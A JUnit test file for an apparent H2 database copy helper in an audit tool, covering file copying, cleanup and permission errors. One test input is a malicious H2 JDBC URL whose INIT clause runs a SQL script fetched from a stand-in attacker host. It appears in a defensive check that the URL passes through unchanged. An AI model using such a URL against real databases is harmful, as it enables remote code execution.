package io.isaudit.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

class H2CopyTest {

  @TempDir Path folder;

  private Path temporary;
  private final List<String> told = new ArrayList<>();

  @BeforeEach
  void make_folder() throws IOException {
    temporary = Files.createDirectory(folder.resolve("tmp"));
  }

  private H2Copy copyOf(String url) throws IOException {
    return H2Copy.of(url, temporary, told::add);
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void a_file_with_a_colon_in_its_path_is_copied() throws Exception {
    Path file = Files.createDirectories(folder.resolve("C:")).resolve("idn");
    Files.writeString(folder.resolve("C:/idn.mv.db"), "rows");

    try (H2Copy copy = copyOf("jdbc:h2:file:" + file)) {
      assertThat(copy.url()).startsWith("jdbc:h2:file:" + temporary).endsWith("copy");
      assertThat(Files.readString(Path.of(copy.url().substring(13) + ".mv.db"))).isEqualTo("rows");
    }
    assertThat(temporary).isEmptyDirectory();
  }

  @Test
  void whatever_lies_beside_the_copy_goes_with_it() throws Exception {
    Files.writeString(folder.resolve("idn.mv.db"), "rows");

    try (H2Copy copy = copyOf("jdbc:h2:" + folder.resolve("idn"))) {
      Path made = Path.of(copy.url().substring(13)).resolveSibling("copy.lobs.db");
      Files.createDirectories(made.resolve("deeper"));
      Files.writeString(made.resolve("deeper/1"), "x");
    }
    assertThat(temporary).isEmptyDirectory();
    assertThat(told).isEmpty();
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void a_file_that_is_not_there_or_cannot_be_copied_leaves_nothing_behind() throws Exception {
    assertThatThrownBy(() -> copyOf("jdbc:h2:" + folder.resolve("none")))
        .isInstanceOf(IOException.class);
    Path locked = Files.writeString(folder.resolve("locked.mv.db"), "rows");
    Files.setPosixFilePermissions(locked, Set.of());
    if (!Files.isReadable(locked)) {
      assertThatThrownBy(() -> copyOf("jdbc:h2:" + folder.resolve("locked")))
          .isInstanceOf(IOException.class);
    }

    assertThat(temporary).isEmptyDirectory();
  }

  @Test
  @DisabledOnOs(OS.WINDOWS)
  void what_cannot_be_cleaned_up_is_told_and_fails_nothing() throws Exception {
    Files.writeString(folder.resolve("idn.mv.db"), "rows");
    H2Copy copy = copyOf("jdbc:h2:" + folder.resolve("idn"));
    Files.setPosixFilePermissions(temporary, PosixFilePermissions.fromString("r-x------"));
    boolean mayWrite = Files.isWritable(temporary);

    copy.close();

    if (mayWrite) {
      // Nothing is locked for the account that runs this.
      assertThat(told).isEmpty();
      assertThat(temporary).isEmptyDirectory();
    } else {
      assertThat(told).singleElement().asString().contains("stays in " + temporary);
    }
    Files.setPosixFilePermissions(temporary, PosixFilePermissions.fromString("rwx------"));
  }

  @Test
  void any_other_url_is_left_as_it_is() throws Exception {
    for (String url :
        List.of(
            "jdbc:postgresql://db.northwind-bank.net/idn",
            "jdbc:h2:tcp://db.northwind-bank.net/idn",
            "jdbc:h2:./x;INIT=RUNSCRIPT FROM 'http://intruder.example/a.sql'")) {
      assertThat(copyOf(url).url()).isEqualTo(url);
    }
    assertThat(temporary).isEmptyDirectory();
  }
}
